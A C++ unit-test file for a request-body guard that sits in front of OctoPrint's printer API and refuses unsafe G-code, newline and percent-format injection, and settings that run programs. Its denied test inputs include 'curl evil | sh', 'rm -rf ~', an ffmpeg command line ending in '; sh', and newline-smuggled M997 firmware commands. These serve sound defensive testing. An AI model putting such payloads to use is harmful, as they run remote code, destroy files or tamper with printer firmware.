#include "guard/body_inspector.h"

#include "absl/strings/match.h"
#include "gtest/gtest.h"

namespace bowden::guard {
namespace {

class BodyInspectorTest : public ::testing::Test {
 protected:
  BodyVerdict Judge(guard::Inspect what, absl::string_view body,
                    absl::string_view path = "/api/printer/command") {
    return InspectBody(checker_, ceiling_, BodyRequest{what, path, body});
  }
  // The denial alone: "" when allowed.
  std::string Inspect(guard::Inspect what, absl::string_view body,
                      absl::string_view path = "/api/printer/command") {
    return Judge(what, body, path).denial;
  }
  gcode::Checker checker_ = *gcode::Checker::Create(gcode::Ceiling());
  LocalCeiling ceiling_;
};

TEST_F(BodyInspectorTest, PrinterCommands) {
  EXPECT_EQ(Inspect(Inspect::kPrinterCommand, R"({"command":"G28"})"), "");
  EXPECT_EQ(Inspect(Inspect::kPrinterCommand, R"({"commands":["G28","M104 S200"]})"), "");
  // What the UI's terminal sends: an empty `parameters` formats nothing.
  EXPECT_EQ(Inspect(Inspect::kPrinterCommand, R"({"commands":["M105"],"parameters":{}})"), "");
  EXPECT_EQ(Inspect(Inspect::kPrinterCommand, R"({"commands":["M117 100%"],"parameters":{}})"),
            "");
  std::string refused = Inspect(Inspect::kPrinterCommand, R"({"commands":["G28","m997"]})");
  EXPECT_TRUE(absl::StrContains(refused, "line 2")) << refused;
  EXPECT_TRUE(absl::StrContains(refused, "m997")) << refused;
  EXPECT_NE(Inspect(Inspect::kPrinterCommand, R"({"command":"M104 S300"})"), "");
  EXPECT_NE(Inspect(Inspect::kPrinterCommand, R"({"script":"beforePrintStarted"})"), "");
  EXPECT_NE(Inspect(Inspect::kPrinterCommand, R"({"command":42})"), "");
  EXPECT_NE(Inspect(Inspect::kPrinterCommand, R"({"commands":["G28",7]})"), "");
  EXPECT_NE(Inspect(Inspect::kPrinterCommand, R"({})"), "");
  EXPECT_NE(Inspect(Inspect::kPrinterCommand, "not json"), "");
}

TEST_F(BodyInspectorTest, ALineBreakInsideOneCommandIsRefusedEvenWhenBothLinesPass) {
  // OctoPrint writes the command as one serial line; its own checks (blocked
  // commands, emergency detection) see only the first of the two.
  for (const char* body : {R"({"command":"M117 a\nM117 b"})", R"({"command":"M117 a\rM117 b"})",
                           R"({"commands":["G28\r\nM500"]})"}) {
    std::string refused = Inspect(Inspect::kPrinterCommand, body);
    EXPECT_TRUE(absl::StrContains(refused, "line break")) << body << ": " << refused;
  }
}

TEST_F(BodyInspectorTest, ParametersAreJudgedAfterPythonsPercentFormatting) {
  // The review's bypass: OctoPrint applies `command % parameters`.
  std::string refused = Inspect(Inspect::kPrinterCommand,
                                R"({"command":"M117 %(a)s","parameters":{"a":"hi\nM997"}})");
  EXPECT_TRUE(absl::StrContains(refused, "line break")) << refused;
  EXPECT_NE(Inspect(Inspect::kPrinterCommand,
                    R"({"command":"M117 %(nl)c","parameters":{"nl":10}})"),
            "");
  EXPECT_NE(Inspect(Inspect::kPrinterCommand,
                    R"({"commands":["M104 S%(t)s"],"parameters":{"t":300}})"),
            "");
  EXPECT_EQ(Inspect(Inspect::kPrinterCommand,
                    R"({"commands":["M104 S%(t)s"],"parameters":{"t":200}})"),
            "");
  EXPECT_NE(Inspect(Inspect::kPrinterCommand,
                    R"({"commands":["M%(a)s%(b)s"],"parameters":{"a":"9","b":"97"}})"),
            "");
  // Positional formatting of a string or a list cannot be judged.
  EXPECT_NE(Inspect(Inspect::kPrinterCommand, R"({"command":"M117 %s","parameters":"x"})"), "");
  EXPECT_NE(Inspect(Inspect::kPrinterCommand, R"({"command":"M117 %s","parameters":["x"]})"),
            "");
  // The old "{name}" substitution is not what OctoPrint does: left as is.
  EXPECT_EQ(Inspect(Inspect::kPrinterCommand,
                    R"({"command":"M117 {t}","parameters":{"t":"x"}})"),
            "");
}

TEST_F(BodyInspectorTest, EmergencyCommandsLeaveARefusedBatchOnTheirOwn) {
  BodyVerdict verdict =
      Judge(Inspect::kPrinterCommand, R"({"commands":["M104 S200","M997","M112"]})");
  EXPECT_FALSE(verdict.allowed());
  EXPECT_EQ(verdict.emergency_body, R"({"commands":["M112"]})");
  EXPECT_EQ(verdict.emergency_commands, "M112");
  // Inside a refused multi-line command too.
  verdict = Judge(Inspect::kPrinterCommand, R"({"command":"M410\nM997"})");
  EXPECT_FALSE(verdict.allowed());
  EXPECT_EQ(verdict.emergency_body, R"({"commands":["M410"]})");
  // An allowed batch goes as it is.
  verdict = Judge(Inspect::kPrinterCommand, R"({"commands":["G28","M112"]})");
  EXPECT_TRUE(verdict.allowed());
  EXPECT_EQ(verdict.emergency_body, "");
}

TEST_F(BodyInspectorTest, BelowAdminOnlyEmergencyCommandsPass) {
  BodyVerdict verdict = Judge(Inspect::kOperatorCommand,
                              R"({"commands":["M112"],"parameters":{}})");
  EXPECT_TRUE(verdict.allowed()) << verdict.denial;
  EXPECT_EQ(verdict.emergency_body, R"({"commands":["M112"]})");
  verdict = Judge(Inspect::kOperatorCommand,
                  R"({"commands":["m108","M410 ; stop"]})");
  EXPECT_TRUE(verdict.allowed()) << verdict.denial;
  EXPECT_EQ(verdict.emergency_body, R"({"commands":["M108","M410"]})");
  verdict = Judge(Inspect::kOperatorCommand, R"({"commands":["G28","M112"]})");
  EXPECT_FALSE(verdict.allowed());
  EXPECT_TRUE(
      absl::StrContains(verdict.denial, "the terminal needs role admin"))
      << verdict.denial;
  EXPECT_TRUE(absl::StrContains(verdict.denial, "\"G28\"")) << verdict.denial;
  EXPECT_EQ(verdict.emergency_body, R"({"commands":["M112"]})");
  EXPECT_FALSE(Judge(Inspect::kOperatorCommand, R"({"script":"x"})").allowed());
  // Out of a refused batch only the emergency commands go, not motors off.
  verdict = Judge(Inspect::kOperatorCommand, R"({"commands":["M18","G28","M410"]})");
  EXPECT_FALSE(verdict.allowed());
  EXPECT_EQ(verdict.emergency_body, R"({"commands":["M410"]})");
}

// The Control tab's Motors off and Fan on/off, exactly as OctoPrint's UI
// sends them (tests/data/octoprint-1.10.3-ui-traffic.tsv), and the other
// names firmware has for them.
TEST_F(BodyInspectorTest, OperatorsSendMotorsOffAndTheFan) {
  for (const char* body :
       {R"({"commands":["M18"],"parameters":{}})",
        R"({"commands":["M106 S0"],"parameters":{}})",
        R"({"commands":["M106 S255"],"parameters":{}})", R"({"command":"M84"})",
        R"({"command":"M107"})", R"({"command":"m106 s128"})",
        R"({"command":"M106 S127.0"})",
        R"({"commands":["M106 S%(speed)s"],"parameters":{"speed":100}})",
        R"({"commands":["M18","M107"]})"}) {
    BodyVerdict verdict = Judge(Inspect::kOperatorCommand, body);
    EXPECT_TRUE(verdict.allowed()) << body << ": " << verdict.denial;
    // Forwarded as sent: nothing emergency about them.
    EXPECT_EQ(verdict.emergency_body, "") << body;
  }
  // With an emergency command the batch still goes as sent.
  BodyVerdict verdict =
      Judge(Inspect::kOperatorCommand, R"({"commands":["M106 S0","M112"]})");
  EXPECT_TRUE(verdict.allowed()) << verdict.denial;
  EXPECT_EQ(verdict.emergency_body, "");
}

TEST_F(BodyInspectorTest, OperatorsGetNothingElseOfTheTerminal) {
  for (const char* body :
       {R"({"command":"G28"})", R"({"command":"M105"})",
        R"({"command":"M997"})",
        // Every parameter is checked: fan speeds, a fan index, motor
        // axes and the idle timeout.
        R"({"command":"M106 S256"})", R"({"command":"M106 S-1"})",
        R"({"command":"M106 S12.5"})", R"({"command":"M106"})",
        R"({"command":"M106 S100 P1"})", R"({"command":"M106 P0"})",
        R"({"command":"M107 P1"})", R"({"command":"M18 X"})",
        R"({"command":"M84 S0"})",
        // One line each, no line numbers, no subcodes, no look-alikes.
        R"({"command":"M18\nG28"})", R"({"command":"N1 M18*22"})",
        R"({"command":"M18.1"})", R"({"command":"M180"})",
        R"({"command":"M106 S0 ; fan\nM997"})",
        R"({"commands":["M106 S%(speed)s"],"parameters":{"speed":"0\nM997"}})",
        R"({"commands":["M18","M104 S200"]})"}) {
    BodyVerdict verdict = Judge(Inspect::kOperatorCommand, body);
    EXPECT_FALSE(verdict.allowed()) << body;
    EXPECT_EQ(verdict.emergency_body, "") << body;
  }
  const std::string refused =
      Inspect(Inspect::kOperatorCommand, R"({"command":"M106 S256"})");
  EXPECT_EQ(refused,
            "the terminal needs role admin; operators may send only motors off "
            "(M18, M84), the "
            "fan (M106 S0-255, M107) and the emergency commands M112, M410 and "
            "M108, not "
            "\"M106 S256\"");
}

TEST_F(BodyInspectorTest, JogValuesMustBeNumbers) {
  // Exactly what OctoPrint's UI sends (shared/research/...-traffic.tsv).
  for (const char* body : {R"({"absolute":false,"x":10,"command":"jog"})",
                           R"({"absolute":false,"z":-10,"command":"jog"})",
                           R"({"x":1.5,"y":0.1,"speed":1000,"command":"jog"})",
                           R"({"x":1,"speed":null,"command":"jog"})",
                           R"({"x":1,"speed":false,"command":"jog"})",
                           R"({"axes":["x","y"],"command":"home"})",
                           R"({"axes":["Z"],"command":"home"})",
                           R"({"factor":110,"command":"feedrate"})"}) {
    EXPECT_EQ(Inspect(Inspect::kPrinthead, body), "") << body;
  }
  // The review's bypass: speed becomes " F{speed}" verbatim.
  for (const char* body : {R"({"command":"jog","x":1,"speed":"1000\nM997"})",
                           R"({"command":"jog","x":1,"speed":"1000"})",
                           R"({"command":"jog","x":1,"speed":true})",
                           R"({"command":"jog","x":true})",
                           R"({"command":"jog","x":"1"})",
                           R"({"command":"jog","x":0.00001})",
                           R"({"command":"jog","x":1e300})",
                           R"({"command":"jog","x":1,"extra":"M997"})",
                           R"({"command":"home","axes":["x\nM997"]})",
                           R"({"command":"home","axes":"x"})",
                           R"({"command":"feedrate","factor":"100\nM997"})",
                           R"({"command":"wiggle"})"}) {
    EXPECT_NE(Inspect(Inspect::kPrinthead, body), "") << body;
  }
}

TEST_F(BodyInspectorTest, ToolCommandsAreTypedFieldByField) {
  for (const char* body : {R"({"targets":{"tool0":200},"command":"target"})",
                           R"({"offsets":{"tool0":0},"command":"offset"})",
                           R"({"factor":95,"command":"flowrate"})",
                           R"({"amount":5,"command":"extrude"})",
                           R"({"amount":-5,"speed":300,"command":"extrude"})",
                           R"({"tool":"tool1","command":"select"})"}) {
    EXPECT_EQ(Inspect(Inspect::kToolTarget, body), "") << body;
  }
  for (const char* body : {R"({"command":"target","targets":{"tool0":281}})",
                           R"({"command":"target","targets":{"tool0":"hot"}})",
                           R"({"command":"target","targets":{"tool0\nM997":200}})",
                           R"({"command":"offset","offsets":{"tool0":5}})",
                           R"({"command":"select","tool":"tool1\nM997"})",
                           R"({"command":"select","tool":"tool"})",
                           R"({"command":"extrude","amount":"5\nM997"})",
                           R"({"command":"extrude","amount":5,"speed":"1\nM997"})",
                           R"({"command":"flowrate","factor":"100"})",
                           R"({"command":"target","target":200})"}) {
    EXPECT_NE(Inspect(Inspect::kToolTarget, body), "") << body;
  }
}

TEST_F(BodyInspectorTest, HeaterSetPoints) {
  EXPECT_EQ(Inspect(Inspect::kBedTarget, R"({"command":"target","target":120})"), "");
  EXPECT_NE(Inspect(Inspect::kBedTarget, R"({"command":"target","target":121})"), "");
  EXPECT_NE(Inspect(Inspect::kChamberTarget, R"({"command":"target","target":71})"), "");
  EXPECT_NE(Inspect(Inspect::kBedTarget, R"({"command":"offset","offset":30})"), "");
  EXPECT_EQ(Inspect(Inspect::kBedTarget, R"({"command":"offset","offset":-5})"), "");
  EXPECT_NE(Inspect(Inspect::kBedTarget, R"({"command":"target","target":"60"})"), "");
  EXPECT_NE(Inspect(Inspect::kBedTarget, R"({"command":"target","target":true})"), "");
}

TEST_F(BodyInspectorTest, FileCommandsCannotTurnAModelIntoPrintableGcode) {
  const char* model = "/api/files/local/evil.stl";
  for (const char* body : {R"({"command":"move","destination":"evil.gcode"})",
                           R"({"command":"copy","destination":"folder/evil.gco"})",
                           R"({"command":"move","destination":"evil"})",
                           R"({"command":"copy"})"}) {
    std::string refused = Inspect(Inspect::kFileCommand, body, model);
    EXPECT_NE(refused, "") << body;
  }
  EXPECT_EQ(Inspect(Inspect::kFileCommand, R"({"command":"copy","destination":"b.STL"})", model),
            "");
  // The UI's own file commands.
  EXPECT_EQ(Inspect(Inspect::kFileCommand, R"({"destination":"/rec-folder","command":"move"})",
                    "/api/files/local/rec.gcode"),
            "");
  EXPECT_EQ(Inspect(Inspect::kFileCommand, R"({"print":false,"command":"select"})",
                    "/api/files/local/f/rec.gcode"),
            "");
  // Slicing with overrides writes G-code the guard never sees.
  std::string refused = Inspect(
      Inspect::kFileCommand,
      R"({"command":"slice","print":true,"profile.start_gcode":"M997"})", model);
  EXPECT_TRUE(absl::StrContains(refused, "profile.start_gcode")) << refused;
  EXPECT_EQ(Inspect(Inspect::kFileCommand,
                    R"({"command":"slice","profile":"pla","position":{"x":100,"y":100}})", model),
            "");
  EXPECT_NE(Inspect(Inspect::kFileCommand,
                    R"({"command":"slice","position":{"x":"1\nM997","y":1}})", model),
            "");
  EXPECT_NE(Inspect(Inspect::kFileCommand, R"({"command":"rename"})", model), "");
}

TEST_F(BodyInspectorTest, TimelapseSaveNeedsAdmin) {
  EXPECT_EQ(Inspect(Inspect::kTimelapseConfig, R"({"type":"zchange","postRoll":0})"), "");
  EXPECT_TRUE(absl::StrContains(
      Inspect(Inspect::kTimelapseConfig, R"({"type":"zchange","save":true})"), "role admin"));
}

TEST_F(BodyInspectorTest, PromptAnswersAreWholeNumbers) {
  EXPECT_EQ(Inspect(Inspect::kPromptAnswer, R"({"command":"select","choice":1})"), "");
  EXPECT_NE(Inspect(Inspect::kPromptAnswer, R"({"command":"select","choice":"1\nM997"})"), "");
  EXPECT_NE(Inspect(Inspect::kPromptAnswer, R"({"command":"select","choice":1.5})"), "");
}

// OctoPrint runs these settings as programs later (system menu, events,
// timelapse rendering, plugin installs): writing one is running a program.
TEST_F(BodyInspectorTest, SettingsThatOctoPrintRunsAsProgramsNeedTheirLocalFlag) {
  const LocalCeiling strict;
  LocalCeiling flagged;
  flagged.allow_system_commands = true;
  auto denial = [&](const LocalCeiling& ceiling, const char* body) {
    return InspectBody(checker_, ceiling, BodyRequest{Inspect::kSettings, "/api/settings", body})
        .denial;
  };
  for (const char* body : {
           R"({"server":{"commands":{"systemShutdownCommand":"curl evil | sh"}}})",
           R"({"system":{"actions":[{"action":"x","command":"rm -rf ~","name":"x"}]}})",
           R"({"system":{"events":{"subscriptions":[{"type":"system","command":"sh"}]}}})",
           R"({"webcam":{"ffmpegPath":"/tmp/evil"}})",
           R"({"webcam":{"ffmpegCommandline":"{ffmpeg} -i x; sh"}})",
           R"({"webcam":{"FFMPEGThreads":1}})",
       }) {
    EXPECT_TRUE(absl::StrContains(denial(strict, body), "allow_system_commands")) << body;
    EXPECT_EQ(denial(flagged, body), "") << body;
  }
  for (const char* body : {R"({"plugins":{"pluginmanager":{"pip_args":"--index-url x"}}})",
                           R"({"plugins":{"softwareupdate":{"checks":{}}}})"}) {
    EXPECT_TRUE(absl::StrContains(denial(strict, body), "allow_plugin_install")) << body;
  }
  // What the UI's ordinary saves send passes: the recorded title change,
  // and other webcam settings.
  EXPECT_EQ(denial(strict, R"({"appearance":{"name":"x"},)"
                           R"("webcam":{"streamUrl":"/webcam/?action=stream","flipH":true}})"),
            "");
}

TEST_F(BodyInspectorTest, SettingsThatAreGcodeMustPassTheCeiling) {
  // The UI's own save.
  EXPECT_EQ(Inspect(Inspect::kSettings,
                    R"({"appearance":{"name":"Recording admin"},"temperature":{"profiles":)"
                    R"([{"name":"ABS","extruder":210,"bed":100,"chamber":null}]}})"),
            "");
  EXPECT_TRUE(absl::StrContains(
      Inspect(Inspect::kSettings, R"({"scripts":{"gcode":{"afterPrinterConnected":"G28"}}})"),
      "allow_gcode_scripts"));
  ceiling_.allow_gcode_scripts = true;
  EXPECT_EQ(Inspect(Inspect::kSettings, R"({"scripts":{"gcode":{"afterPrinterConnected":"G28"}}})"),
            "");
  EXPECT_NE(Inspect(Inspect::kSettings,
                    R"({"scripts":{"gcode":{"afterPrinterConnected":"G28\nM997"}}})"),
            "");
  EXPECT_NE(Inspect(Inspect::kSettings,
                    R"({"scripts":{"gcode":{"beforePrintStarted":"{{ 'M9' ~ '97' }}"}}})"),
            "");
  EXPECT_EQ(Inspect(Inspect::kSettings, R"({"serial":{"helloCommand":"M110 N0"}})"), "");
  EXPECT_NE(Inspect(Inspect::kSettings, R"({"serial":{"helloCommand":"M997"}})"), "");
  EXPECT_EQ(Inspect(Inspect::kSettings, R"({"plugins":{"action_command_prompt":{"command":"M876"}}})"),
            "");
  EXPECT_NE(Inspect(Inspect::kSettings, R"({"plugins":{"action_command_prompt":{"command":"M997"}}})"),
            "");
}

TEST_F(BodyInspectorTest, ConnectsPassButSavingConnectionSettingsDoesNot) {
  EXPECT_EQ(Inspect(Inspect::kConnection,
                    R"({"command":"connect","port":"/dev/ttyACM0","baudrate":115200})"),
            "");
  EXPECT_EQ(Inspect(Inspect::kConnection, R"({"command":"disconnect"})"), "");
  // The UI's Connect sends `autoconnect` with the stored value, either one;
  // `save` only when "Save connection settings" is ticked.
  for (const char* body :
       {R"({"port":"VIRTUAL","baudrate":115200,"printerProfile":"_default",)"
        R"("autoconnect":false,"command":"connect"})",
        R"({"command":"connect","autoconnect":true})",
        R"({"command":"connect","save":false})"}) {
    EXPECT_EQ(Inspect(Inspect::kConnection, body), "") << body;
  }
  for (const char* body : {R"({"command":"connect","save":true})",
                           R"({"command":"connect","save":"false"})",
                           R"({"command":"connect","save":1})",
                           R"({"command":"connect","save":null})"}) {
    std::string refused = Inspect(Inspect::kConnection, body);
    EXPECT_TRUE(absl::StrContains(refused, "needs role admin")) << body << ": " << refused;
  }
  for (const char* body : {R"({"command":"connect","autoconnect":"true"})",
                           R"({"command":"connect","autoconnect":1})"}) {
    EXPECT_EQ(Inspect(Inspect::kConnection, body),
              "\"autoconnect\" must be true or false")
        << body;
  }
  EXPECT_NE(Inspect(Inspect::kConnection, "command=connect&save=true"), "");
}

TEST_F(BodyInspectorTest, UploadsAreNotJudgedAsBufferedBodies) {
  // HttpGuard streams them through UploadInspector; here they fail closed.
  EXPECT_TRUE(absl::StrContains(Inspect(Inspect::kUpload, "--x\r\n"), "as it streams"));
}

}  // namespace
}  // namespace bowden::guard
